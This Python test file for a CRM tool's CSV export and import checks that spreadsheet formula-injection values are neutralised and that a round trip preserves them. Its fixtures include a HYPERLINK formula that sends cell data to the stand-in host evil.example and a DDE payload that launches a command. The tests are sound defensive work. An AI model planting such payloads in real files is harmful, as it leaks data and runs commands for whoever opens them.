"""Formula injection (issue 13 item 6): `ritmo export` neutralises cells a spreadsheet would run,
and `ritmo import` of that file gives back exactly the values that were exported."""

import csv
import io
import json
import re
from pathlib import Path

from tests.cli.test_import_transfer import make_store, run_cli

NUMERIC = re.compile(r"[+\-][\d .()/-]*")

ACCOUNTS = [
    {
        "name": '=HYPERLINK("http://evil.example/?x="&A1,"Clique")',
        "city": "@SUM(1+1)*cmd|' /C calc'!A0",
    },
    {"name": "+Loja Mais", "city": "-Itu"},
    {"name": "'=Já tinha aspas", "city": "Campinas"},
    {"name": "Padaria Normal", "city": "'-5 não é fórmula"},
]
CONTACTS = [
    {
        "name": "Carla Dias",
        "account": "Padaria Normal",
        "phone": "+55 11 91234-5678",
        "email": "carla@padaria.example",
        "role": "@compras",
    },
    {"name": "Dora Reis", "account": "+Loja Mais", "phone": "-5", "email": "", "role": "=1+2"},
]


def _jsonl(path: Path, rows: list[dict]) -> Path:
    path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), "utf-8")
    return path


def _load(store: Path, tmp_path: Path) -> None:
    for kind, rows in (("accounts", ACCOUNTS), ("contacts", CONTACTS)):
        result = run_cli(store, "import", kind, str(_jsonl(tmp_path / f"{kind}.jsonl", rows)))
        assert result.returncode == 0, result.stderr


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _values(store: Path, kind: str) -> list[dict]:
    out = run_cli(store, "export", kind, "--format", "jsonl").stdout
    return sorted((json.loads(line) for line in out.splitlines()), key=lambda r: r["name"])


def test_exported_cells_never_start_a_formula(tmp_path):
    store = make_store(tmp_path)
    _load(store, tmp_path)
    accounts = _cells(run_cli(store, "export", "accounts").stdout)
    contacts = _cells(run_cli(store, "export", "contacts").stdout)
    for row in accounts + contacts:
        for value in row.values():
            assert not value or value[0] not in "=+-@\t\r" or NUMERIC.fullmatch(value), row
    names = {row["name"] for row in accounts}
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"Clique")' in names
    assert {"'+Loja Mais", "''=Já tinha aspas", "Padaria Normal"} <= names
    carla = next(row for row in contacts if row["name"] == "Carla Dias")
    dora = next(row for row in contacts if row["name"] == "Dora Reis")
    # Numbers and phone numbers can call nothing: they stay readable for the next CRM.
    assert (carla["phone"], carla["role"]) == ("+55 11 91234-5678", "'@compras")
    assert (dora["phone"], dora["role"], dora["account"]) == ("-5", "'=1+2", "'+Loja Mais")


def test_export_then_import_gives_back_the_same_values(tmp_path):
    (tmp_path / "a").mkdir(), (tmp_path / "b").mkdir()
    source, target = make_store(tmp_path / "a"), make_store(tmp_path / "b")
    _load(source, tmp_path)
    for kind in ("accounts", "contacts"):
        exported = tmp_path / f"{kind}.csv"
        assert run_cli(source, "export", kind, "--out", str(exported)).returncode == 0
        result = run_cli(target, "import", kind, str(exported))
        assert result.returncode == 0 and "0 rejected" in result.stdout, result.stdout
        assert _values(target, kind) == _values(source, kind)
    names = {row["name"] for row in _values(target, "accounts")}
    assert {"+Loja Mais", "'=Já tinha aspas"} <= names
    # Importing the export again into the store it came from changes nothing.
    again = run_cli(source, "import", "accounts", str(tmp_path / "accounts.csv")).stdout
    assert "0 created, 0 updated" in again


def test_a_foreign_file_with_signs_reads_as_written(tmp_path):
    store = make_store(tmp_path)
    (tmp_path / "crm.csv").write_text(
        "name,account,phone,role\nEva Luz,Padaria Normal,+55 21 3333-4444,-gerente\n", "utf-8"
    )
    _load(store, tmp_path)
    assert run_cli(store, "import", "contacts", str(tmp_path / "crm.csv")).returncode == 0
    eva = next(r for r in _values(store, "contacts") if r["name"] == "Eva Luz")
    assert (eva["phone"], eva["role"]) == ("+55 21 3333-4444", "-gerente")
